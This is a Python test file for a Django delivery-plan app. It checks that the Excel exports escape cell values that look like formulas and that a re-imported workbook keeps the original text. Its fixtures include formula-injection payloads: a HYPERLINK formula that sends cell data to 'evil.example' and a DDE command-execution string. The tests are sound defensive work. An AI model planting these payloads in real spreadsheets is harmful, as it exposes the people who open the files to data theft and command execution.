"""The Delivery Plan's Excel files (the OPCC return and the plan in the import template's layout) write what people
typed as text when it would open as a formula, and the plan's workbook still imports back to the same words."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from safer.delivery.models import BudgetLine, DeliveryPlan, PerformanceMeasure, TacticalAction
from safer.delivery.tests.test_documents import build

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"x")'
CMD = "=cmd|' /C calc'!A0"
BULLETS = "- venue booked\n- registers kept"


def formula_cells(book) -> list[str]:
    return [
        f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]


def test_the_opcc_return_writes_formulas_as_text(client, sign_in, admin, two_quarters) -> None:
    s = two_quarters
    TacticalAction.objects.filter(pk=s.youth.pk).update(title=HYPERLINK)
    s.youth.returns.filter(quarter=2).update(progress="@SUM(1)", barriers="-2+3", mitigations=BULLETS)
    BudgetLine.objects.filter(action=s.youth, source="pcc").update(description=CMD)
    PerformanceMeasure.objects.filter(pk=s.sessions.pk).update(title="+SUM(1)")
    sign_in(client, admin)
    _name, content = build(client, s.dp, "opcc-return")
    book = load_workbook(io.BytesIO(content))
    assert formula_cells(book) == []
    rows = [list(r) for r in book["Monitoring return"].iter_rows(values_only=True)]
    col = {h: i for i, h in enumerate(rows[4])}
    youth = rows[5]
    assert youth[col["Tactical action"]] == "'" + HYPERLINK
    assert (youth[col["Progress"]], youth[col["Barriers"]], youth[col["Mitigations"]]) == (
        "'@SUM(1)",
        "'-2+3",
        "'" + BULLETS,
    )
    assert youth[col["PCC grant spend to date"]] == 6250.5  # numbers stay numbers
    by_line = [list(r) for r in book["Spend by budget line"].iter_rows(values_only=True)]
    assert by_line[1][:4] == ["1.1", "PCC grant", "'" + CMD, 6000]
    measures = [list(r) for r in book["Performance measures"].iter_rows(values_only=True)]
    assert ["1.1", "'+SUM(1)"] in [m[:2] for m in measures]


def test_the_plan_workbook_writes_formulas_as_text_and_imports_back_unchanged(client, sign_in, admin, setup) -> None:
    TacticalAction.objects.filter(pk=setup.youth.pk).update(title=HYPERLINK, scanning=BULLETS, sla="@SUM(1)")
    PerformanceMeasure.objects.filter(pk=setup.sessions.pk).update(title="+SUM(1)")
    sign_in(client, admin)
    _name, content = build(client, setup.dp, "plan-xlsx", quarter=1)
    book = load_workbook(io.BytesIO(content))
    assert formula_cells(book) == []
    actions = [list(r) for r in book["Actions"].iter_rows(values_only=True)]
    header = actions[0]
    youth = actions[1]
    assert youth[header.index("Title")] == "'" + HYPERLINK
    assert youth[header.index("Scanning")] == "'" + BULLETS
    assert youth[header.index("SLA")] == "'@SUM(1)"
    assert youth[header.index("PCC grant budget")] == 6000
    measures = [list(r) for r in book["Measures"].iter_rows(values_only=True)]
    assert measures[1][:2] == ["1.1", "'+SUM(1)"]
    # Edited and imported as next year's plan, the words are the ones typed, without the quote.
    page = client.post(
        reverse("delivery:import"),
        {
            "plan": str(setup.plan.pk),
            "financial_year": "2025-26",
            "file": SimpleUploadedFile("plan.xlsx", content),
        },
        follow=True,
    )
    assert page.status_code == 200
    imported = DeliveryPlan.objects.get(financial_year="2025-26").actions.get(reference="1.1")
    assert (imported.title, imported.scanning, imported.sla) == (HYPERLINK, BULLETS, "@SUM(1)")
    assert imported.measures.get(title="+SUM(1)").target == 80
